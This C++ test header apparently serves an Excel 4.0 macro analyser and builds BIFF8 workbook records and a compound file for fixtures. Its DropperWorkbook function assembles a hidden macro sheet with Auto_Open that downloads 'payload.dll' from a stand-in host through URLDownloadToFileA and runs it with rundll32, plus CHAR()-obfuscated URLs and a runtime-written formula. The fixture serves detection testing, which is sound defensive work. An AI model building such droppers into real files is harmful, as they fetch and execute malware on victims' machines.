#pragma once
// BIFF8 workbook streams built record by record for tests ([MS-XLS] 2.4), and a minimal
// compound file around one (for tests that go through the static stage). Only what the tests
// need: BOF/EOF, BOUNDSHEET, SUPBOOK, EXTERNNAME, EXTERNSHEET, NAME, SST, LABELSST, FORMULA.
#include <cstdint>
#include <cstring>
#include <string>
#include <vector>

#include "kensa/core/bytes.h"

namespace kensa::xlm::testing {

inline void Put16(Bytes& out, std::uint32_t value) {
  out.push_back(static_cast<std::uint8_t>(value & 0xFF));
  out.push_back(static_cast<std::uint8_t>((value >> 8) & 0xFF));
}
inline void Put32(Bytes& out, std::uint32_t value) {
  Put16(out, value & 0xFFFF);
  Put16(out, value >> 16);
}
inline void PutBytes(Bytes& out, const Bytes& more) {
  out.insert(out.end(), more.begin(), more.end());
}
inline void PutText(Bytes& out, std::string_view text) {
  out.insert(out.end(), text.begin(), text.end());
}

inline Bytes Record(std::uint16_t type, const Bytes& body) {
  Bytes out;
  Put16(out, type);
  Put16(out, static_cast<std::uint32_t>(body.size()));
  PutBytes(out, body);
  return out;
}

// BOF: vers 0x0600 (BIFF8), dt, build and year, file history flags, lowest version.
inline Bytes Bof(std::uint16_t dt) {
  Bytes body;
  Put16(body, 0x0600);
  Put16(body, dt);
  Put16(body, 0x0DBB);
  Put16(body, 0x07CC);
  Put32(body, 0);
  Put32(body, 0x06);
  return Record(0x0809, body);
}
inline Bytes Eof() { return Record(0x000A, {}); }

// Ptg tokens ([MS-XLS] 2.5.198), BIFF8 layouts.
namespace ptg {
inline Bytes Str(std::string_view text) {  // 8-bit characters only
  Bytes out = {0x17, static_cast<std::uint8_t>(text.size()), 0x00};
  PutText(out, text);
  return out;
}
inline Bytes Int(std::uint16_t value) {
  Bytes out = {0x1E};
  Put16(out, value);
  return out;
}
inline Bytes MissArg() { return {0x16}; }
inline Bytes Concat() { return {0x08}; }
inline Bytes Func(std::uint16_t index) {
  Bytes out = {0x41};
  Put16(out, index);
  return out;
}
inline Bytes FuncVar(std::uint8_t count, std::uint16_t index, bool command = false) {
  Bytes out = {0x42, count};
  Put16(out, command ? (index | 0x8000u) : index);
  return out;
}
// A cell on the same sheet; relative unless `absolute`.
inline Bytes Ref(std::uint16_t row, std::uint16_t column, bool absolute = false) {
  Bytes out = {0x44};
  Put16(out, row);
  Put16(out, absolute ? column : (column | 0xC000u));
  return out;
}
inline Bytes Ref3d(std::uint16_t ixti, std::uint16_t row, std::uint16_t column) {
  Bytes out = {0x3A};
  Put16(out, ixti);
  Put16(out, row);
  Put16(out, column);
  return out;
}
inline Bytes NameX(std::uint16_t ixti, std::uint16_t index) {
  Bytes out = {0x59};
  Put16(out, ixti);
  Put16(out, index);
  Put16(out, 0);
  return out;
}
}  // namespace ptg

inline Bytes Join(std::initializer_list<Bytes> parts) {
  Bytes out;
  for (const auto& part : parts) PutBytes(out, part);
  return out;
}

// FORMULA with a numeric cached value of 0.
inline Bytes Formula(std::uint16_t row, std::uint16_t column, const Bytes& rgce) {
  Bytes body;
  Put16(body, row);
  Put16(body, column);
  Put16(body, 0x0F);
  for (int i = 0; i < 8; ++i) body.push_back(0);
  Put16(body, 0);
  Put32(body, 0);
  Put16(body, static_cast<std::uint32_t>(rgce.size()));
  PutBytes(body, rgce);
  return Record(0x0006, body);
}

inline Bytes LabelSst(std::uint16_t row, std::uint16_t column, std::uint32_t index) {
  Bytes body;
  Put16(body, row);
  Put16(body, column);
  Put16(body, 0x0F);
  Put32(body, index);
  return Record(0x00FD, body);
}

struct Sheet {
  std::string name;
  std::uint8_t state = 0;  // 0 visible, 1 hidden, 2 very hidden
  std::uint8_t type = 0;   // 0 worksheet, 1 macro sheet
  std::vector<Bytes> records;
};

// Globals (BOF, `globals`, BOUNDSHEETs, EOF), then each sheet's substream; BOUNDSHEET offsets
// point at the sheets' BOF records as Excel writes them.
inline Bytes Workbook(const std::vector<Bytes>& globals, const std::vector<Sheet>& sheets) {
  std::size_t globals_size = Bof(0x0005).size() + Eof().size();
  for (const auto& record : globals) globals_size += record.size();
  for (const auto& sheet : sheets) globals_size += 4 + 8 + sheet.name.size();
  Bytes out = Bof(0x0005);
  for (const auto& record : globals) PutBytes(out, record);
  std::size_t offset = globals_size;
  for (const auto& sheet : sheets) {
    Bytes body;
    Put32(body, static_cast<std::uint32_t>(offset));
    body.push_back(sheet.state);
    body.push_back(sheet.type);
    body.push_back(static_cast<std::uint8_t>(sheet.name.size()));
    body.push_back(0);
    PutText(body, sheet.name);
    PutBytes(out, Record(0x0085, body));
    offset += Bof(0x0010).size() + Eof().size();
    for (const auto& record : sheet.records) offset += record.size();
  }
  PutBytes(out, Eof());
  for (const auto& sheet : sheets) {
    PutBytes(out, Bof(sheet.type == 1 ? 0x0040 : 0x0010));
    for (const auto& record : sheet.records) PutBytes(out, record);
    PutBytes(out, Eof());
  }
  return out;
}

// SUPBOOK of this workbook's own sheets.
inline Bytes SupBookSelf(std::uint16_t sheet_count) {
  Bytes body;
  Put16(body, sheet_count);
  Put16(body, 0x0401);
  return Record(0x01AE, body);
}
// SUPBOOK of a DDE source: no sheets, virtPath "server" U+0003 "topic".
inline Bytes SupBookDde(std::string_view server, std::string_view topic) {
  Bytes body;
  Put16(body, 0);
  Put16(body, static_cast<std::uint32_t>(server.size() + 1 + topic.size()));
  body.push_back(0);
  PutText(body, server);
  body.push_back(0x03);
  PutText(body, topic);
  return Record(0x01AE, body);
}
inline Bytes ExternName(std::string_view name) {
  Bytes body;
  Put16(body, 0);
  Put32(body, 0);
  body.push_back(static_cast<std::uint8_t>(name.size()));
  body.push_back(0);
  PutText(body, name);
  return Record(0x0023, body);
}
// EXTERNSHEET with one XTI per (supbook, first sheet).
inline Bytes ExternSheet(const std::vector<std::pair<std::uint16_t, std::int16_t>>& xtis) {
  Bytes body;
  Put16(body, static_cast<std::uint32_t>(xtis.size()));
  for (const auto& [supbook, first] : xtis) {
    Put16(body, supbook);
    Put16(body, static_cast<std::uint16_t>(first));
    Put16(body, static_cast<std::uint16_t>(first));
  }
  return Record(0x0017, body);
}
// NAME: built-in (one-character code, 0x01 = Auto_Open) or an ordinary name, and its formula.
inline Bytes Name(std::string_view name, bool builtin, const Bytes& rgce) {
  Bytes body;
  Put16(body, builtin ? 0x0020 : 0);
  body.push_back(0);
  body.push_back(static_cast<std::uint8_t>(name.size()));
  Put16(body, static_cast<std::uint32_t>(rgce.size()));
  Put16(body, 0);
  Put16(body, 0);
  Put32(body, 0);
  body.push_back(0);  // 8-bit characters
  PutText(body, name);
  PutBytes(body, rgce);
  return Record(0x0018, body);
}

// An XLM dropper as droppers are built: a very hidden macro sheet, Auto_Open on its first cell,
// URLDownloadToFileA through CALL, EXEC of the download, a URL from CHAR() pieces, a formula
// written at run time and jumped to.
inline Bytes DropperWorkbook() {
  Bytes char_chain;
  const std::string url = "http://bad";
  for (std::size_t i = 0; i < url.size(); ++i) {
    PutBytes(char_chain, Join({ptg::Int(static_cast<std::uint8_t>(url[i])), ptg::Func(111)}));
    if (i > 0) PutBytes(char_chain, ptg::Concat());
  }
  Sheet macro{"Doc1", 2, 1, {}};
  macro.records = {
      Formula(0, 0,
              Join({ptg::Str("urlmon"), ptg::Str("URLDownloadToFileA"), ptg::Str("JJCCJJ"),
                    ptg::Int(0), ptg::Str("http://invoice-cdn.xyz/payload.dll"),
                    ptg::Str("C:\\Users\\Public\\p.dll"), ptg::Int(0), ptg::Int(0),
                    ptg::FuncVar(8, 150)})),
      Formula(1, 0,
              Join({ptg::Str("rundll32.exe C:\\Users\\Public\\p.dll,DllRegisterServer"),
                    ptg::FuncVar(1, 110)})),
      Formula(2, 0, char_chain),
      Formula(3, 0, Join({ptg::Str("=HALT()"), ptg::Ref(9, 0), ptg::FuncVar(2, 0x60, true)})),
      Formula(4, 0, Join({ptg::Ref(9, 0), ptg::Func(53)})),
      Formula(5, 0, ptg::FuncVar(0, 54)),
  };
  const Sheet worksheet{"Sheet1", 0, 0, {}};
  return Workbook({SupBookSelf(2), ExternSheet({{0, 0}}), Name("\x01", true, ptg::Ref3d(0, 0, 0))},
                  {macro, worksheet});
}

// A version 3 compound file (512-byte sectors) holding one stream, "Workbook", padded to the
// 4096 bytes that keep it out of the mini stream.
inline Bytes CompoundFileWithWorkbook(Bytes stream) {
  if (stream.size() < 4096) stream.resize(4096, 0);
  stream.resize((stream.size() + 511) / 512 * 512, 0);
  const std::uint32_t data_sectors = static_cast<std::uint32_t>(stream.size() / 512);
  Bytes out(512, 0);
  const std::uint8_t signature[] = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};
  std::memcpy(out.data(), signature, 8);
  auto set16 = [&](std::size_t at, std::uint32_t v) {
    out[at] = static_cast<std::uint8_t>(v & 0xFF);
    out[at + 1] = static_cast<std::uint8_t>((v >> 8) & 0xFF);
  };
  auto set32 = [&](std::size_t at, std::uint32_t v) {
    set16(at, v & 0xFFFF);
    set16(at + 2, v >> 16);
  };
  set16(0x18, 0x003E);
  set16(0x1A, 3);
  set16(0x1C, 0xFFFE);
  set16(0x1E, 9);
  set16(0x20, 6);
  set32(0x2C, 1);           // FAT sectors
  set32(0x30, 1);           // first directory sector
  set32(0x38, 4096);        // mini stream cutoff
  set32(0x3C, 0xFFFFFFFE);  // no mini FAT
  set32(0x44, 0xFFFFFFFE);  // no DIFAT sectors
  for (std::size_t i = 0; i < 109; ++i) set32(0x4C + i * 4, i == 0 ? 0 : 0xFFFFFFFF);
  Bytes fat;
  Put32(fat, 0xFFFFFFFD);  // sector 0: the FAT itself
  Put32(fat, 0xFFFFFFFE);  // sector 1: the directory
  for (std::uint32_t i = 0; i < data_sectors; ++i) {
    Put32(fat, i + 1 == data_sectors ? 0xFFFFFFFE : 2 + i + 1);
  }
  fat.resize(512, 0xFF);
  PutBytes(out, fat);
  Bytes directory(512, 0);
  auto entry = [&](std::size_t index, std::u16string_view name, std::uint8_t type,
                   std::uint32_t child, std::uint32_t start, std::uint32_t size) {
    const std::size_t at = index * 128;
    for (std::size_t i = 0; i < name.size(); ++i) {
      directory[at + i * 2] = static_cast<std::uint8_t>(name[i]);
    }
    directory[at + 0x40] = static_cast<std::uint8_t>((name.size() + 1) * 2);
    directory[at + 0x42] = type;
    directory[at + 0x43] = 1;  // black
    for (std::size_t i = 0; i < 4; ++i) {
      directory[at + 0x44 + i] = 0xFF;  // left sibling: none
      directory[at + 0x48 + i] = 0xFF;  // right sibling: none
    }
    for (std::size_t i = 0; i < 4; ++i)
      directory[at + 0x4C + i] = static_cast<std::uint8_t>(child >> (8 * i));
    for (std::size_t i = 0; i < 4; ++i)
      directory[at + 0x74 + i] = static_cast<std::uint8_t>(start >> (8 * i));
    for (std::size_t i = 0; i < 4; ++i)
      directory[at + 0x78 + i] = static_cast<std::uint8_t>(size >> (8 * i));
  };
  entry(0, u"Root Entry", 5, 1, 0xFFFFFFFE, 0);
  entry(1, u"Workbook", 2, 0xFFFFFFFF, 2, static_cast<std::uint32_t>(stream.size()));
  for (std::size_t index = 2; index < 4; ++index) {
    for (std::size_t i = 0; i < 12; ++i) directory[index * 128 + 0x44 + i] = 0xFF;
  }
  PutBytes(out, directory);
  PutBytes(out, stream);
  return out;
}

}  // namespace kensa::xlm::testing
